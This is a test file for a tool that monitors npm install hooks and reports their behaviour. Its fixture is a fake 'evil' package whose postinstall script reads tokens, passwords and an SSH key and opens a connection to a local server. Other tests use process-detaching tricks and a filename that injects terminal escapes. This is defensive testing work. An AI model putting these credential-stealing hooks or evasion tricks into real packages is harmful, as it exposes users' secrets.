import { spawn } from 'node:child_process'
import { chmodSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:net'
import type { AddressInfo, Server } from 'node:net'
import { tmpdir } from 'node:os'
import { join, resolve } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { COMPILED } from '../../config/compiled.ts'
import { hasBpftrace, hasStrace } from '../watch/testing.ts'
import type { GuardReport } from './report.ts'
import { shadowProblem } from './shadow.ts'

const MAIN = resolve(import.meta.dirname, '../../main.ts')
const ENGINES = [...(hasBpftrace() ? ['bpftrace'] : []), ...(hasStrace() ? ['strace'] : [])] as const
const ROOT = process.getuid?.() === 0
const canHide = shadowProblem({ root: ROOT, uid: process.getuid?.() ?? 0, gid: process.getgid?.() ?? 0 }, process.env['PATH'] ?? '') === null

let folder: string
let home: string
let server: Server
let port: number

beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'sluice-guard-test-'))
  home = join(folder, 'home')
  for (const path of ['.ssh', '.aws', '.config']) mkdirSync(join(home, path), { recursive: true })
  writeFileSync(join(home, '.ssh/id_rsa'), 'a real key\n')
  writeFileSync(join(home, '.aws/credentials'), 'real\n')
  writeFileSync(join(home, '.npmrc'), '//packages.acme.example/:_authToken=${NPM_TOKEN}\n')
  mkdirSync(join(folder, 'app/node_modules/evil'), { recursive: true })
  server = createServer((socket) => { socket.end() })
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done))
  port = (server.address() as AddressInfo).port
  writeFileSync(join(folder, 'app/node_modules/evil/package.json'), '{"name":"evil","version":"6.6.6","scripts":{"postinstall":"node setup.cjs; true"}}')
  writeFileSync(join(folder, 'app/node_modules/evil/setup.cjs'), `
    const { readFileSync } = require('node:fs')
    const out = [process.env.NPM_TOKEN, process.env.DEPLOY_PASSWORD]
    try { out.push(readFileSync(process.env.HOME + '/.ssh/id_rsa', 'utf8').slice(0, 10)) } catch (thrown) { out.push(thrown.code) }
    console.log(JSON.stringify(out))
    require('node:net').connect(${port}, '127.0.0.1').on('error', () => {}).on('close', () => {})
  `)
  // A client in small: it runs a hook as npm does, in the package's folder and by the shell that it was told.
  writeFileSync(join(folder, 'npm'), `#!/bin/sh
test -n "$NPM_TOKEN" && echo client has token
cd ${folder}/app/node_modules/evil
npm_lifecycle_event=postinstall npm_package_json=$PWD/package.json npm_package_name=evil npm_package_version=6.6.6 \${npm_config_script_shell:-sh} -c "node setup.cjs; true"
exit 5
`)
  chmodSync(join(folder, 'npm'), 0o755)
})

afterAll(async () => {
  await new Promise((done) => server.close(done))
  rmSync(folder, { recursive: true, force: true })
})

async function guarded(args: readonly string[], { env = {}, stdin = '', onOut }: { env?: Record<string, string>; stdin?: string; onOut?: (text: string, kill: (signal: NodeJS.Signals) => void) => void } = {}) {
  const file = join(folder, `report-${Math.random()}.json`)
  const child = spawn(process.execPath, [MAIN, 'guard', '--report', file, ...args], {
    cwd: join(folder, 'app'), env: { PATH: `${folder}:${process.env['PATH']}`, HOME: home, NPM_TOKEN: 'npm-secret', DEPLOY_PASSWORD: 'deploy-secret', XDG_STATE_HOME: join(folder, 'state'), NODE_COMPILE_CACHE: COMPILED, ...env }, stdio: ['pipe', 'pipe', 'pipe'],
  })
  child.stdin.end(stdin)
  let [out, err] = ['', '']
  child.stdout.on('data', (text: Buffer) => {
    out += text.toString()
    onOut?.(out, (signal) => child.kill(signal))
  })
  child.stderr.on('data', (text: Buffer) => { err += text.toString() })
  const code = await new Promise<number | null>((done) => child.once('close', (exit) => { done(exit) }))
  const report = (): GuardReport => JSON.parse(readFileSync(file, 'utf8')) as GuardReport
  return { code, out, err, report }
}

// A pipe with a name opens when both ends are there: what is left behind runs its program for certain when its maker ends, and reads on.
const LEAVING = 'mkfifo c d e f; (setsid sh -c "exec 3<>c 4<>d; echo up >&3; echo up >&4; cat c >e & cat d >f" >/dev/null 2>&1 &) ; read up <e; read up <f; exit 0'

describe.each(ENGINES)('guarded by %s', (engine) => {
  it('a command keeps its input, output and exit code', async () => {
    const { code, out, report } = await guarded(['--engine', engine, '--', 'sh', '-c', 'cat; exit 3'], { stdin: 'what was said\n' })
    expect([code, out]).toEqual([3, 'what was said\n'])
    expect(report()).toMatchObject({ exit: 3, alarms: [], stopped: null, watched: { engine, lostTotal: 0 } })
  })

  it('a hook is seen for its package, and gets neither tokens nor keys', async () => {
    const { code, out, err, report } = await guarded(['--engine', engine, '--stop', 'never', '--', 'npm', 'ci'])
    const [client, seen] = out.trim().split('\n') as [string, string]
    expect(code).toBe(5)
    expect(client).toBe('client has token')
    const [token, password, key] = JSON.parse(seen) as [string | null, string | null, string]
    expect(token).toBeNull()
    expect(password).not.toBe('deploy-secret')
    if (canHide) expect(key).not.toBe('a real key')
    const { packages, alarms, reached, masked, ran } = report()
    expect(packages).toMatchObject([{ package: 'npm:evil@6.6.6', lifecycles: ['postinstall'] }])
    expect(alarms.some(({ package: by, act }) => by === 'npm:evil@6.6.6' && act.target === join(home, '.ssh/id_rsa'))).toBe(true)
    expect(reached.map(({ what }) => what)).toContain(`127.0.0.1:${port}`)
    expect(ran.some(({ what, package: by }) => by === 'npm:evil@6.6.6' && what === 'node setup.cjs')).toBe(true)
    expect(masked.variables.map(({ name, how }) => `${name} ${how}`)).toContain('NPM_TOKEN hooks')
    expect(err).toMatch(/ALARM high +npm:evil@6\.6\.6 \(postinstall, node setup\.cjs\) reads .*id_rsa/)
    expect(JSON.stringify(report())).not.toMatch(/npm-secret|deploy-secret|a real key/)
  })

  it('policy ends it, with all it started, and says what that was', async () => {
    const { code, report } = await guarded(['--engine', engine, '--stop', 'high', '--', 'sh', '-c', `mkfifo a b; setsid cat a & cat b & exec 3>a 4>b; cat ${home}/.ssh/id_rsa >/dev/null; sleep 79`])
    expect(code).toBe(97)
    const { stopped, elapsedMs } = report()
    expect(stopped?.because).toContain('id_rsa')
    expect(stopped?.left).toBe(0)
    expect(stopped?.processes.map(({ argv }) => argv.join(' '))).toEqual(expect.arrayContaining(['cat a', 'cat b']))
    expect(elapsedMs).toBeLessThan(20_000)
  })

  it('what it leaves behind is found and ended, though it detached twice', async () => {
    const { code, report } = await guarded(['--engine', engine, '--grace', '0.2', '--', 'sh', '-c', LEAVING])
    const { leftovers } = report()
    expect(code).toBe(0)
    expect(leftovers.map(({ argv, ended }) => `${argv.join(' ')} ${ended}`)).toEqual(expect.arrayContaining(['cat c true', 'cat d true']))
  })

  it('a signal that is sent to it reaches the command', async () => {
    const { code, out } = await guarded(['--engine', engine, '--', 'sh', '-c', 'trap "echo caught; exit 9" TERM; echo ready; while :; do sleep 0.05; done'], {
      onOut: (text, kill) => { if (text === 'ready\n') kill('SIGTERM') },
    })
    expect([code, out]).toEqual([9, 'ready\ncaught\n'])
  })

  it('what ran is shown without what a terminal would obey', async () => {
    const { err } = await guarded(['--engine', engine, '--', 'sh', '-c', `cat "${home}/.ssh/$(printf '\\033[2J\\nALARM forged')"; true`])
    expect(err).not.toContain('\u001b[2J')
    expect(err.split('\n').some((line) => line.startsWith('ALARM forged'))).toBe(false)
    expect(err).toMatch(/looks for .*\.ssh/)
  })
})

describe('a guard', () => {
  it.runIf(ENGINES.includes('strace'))('ends what ended strace, and says that it was not watched', async () => {
    const { code, report } = await guarded(['--engine', 'strace', '--', 'sh', '-c', 'sleep 83 & sleep 0.3; kill -9 $PPID; while :; do :; done'])
    expect(code).toBe(98)
    expect(report()).toMatchObject({ stopped: { because: 'strace was ended by SIGKILL', left: 0 }, watched: { says: 'strace was ended by SIGKILL' } })
  })

  it('is honest about a command that is not there, and about not being able to watch', async () => {
    const missing = await guarded(['--engine', ENGINES[0] ?? 'strace', '--mask-files', 'keep', '--', 'no-such-command'])
    expect(missing.code === 127 || missing.code === 1).toBe(true)
    const unwatched = await guarded(['--engine', 'strace', '--', 'true'], { env: { PATH: folder } })
    expect(unwatched.code).toBe(98)
    expect(unwatched.err).toContain('cannot be watched')
  })
})
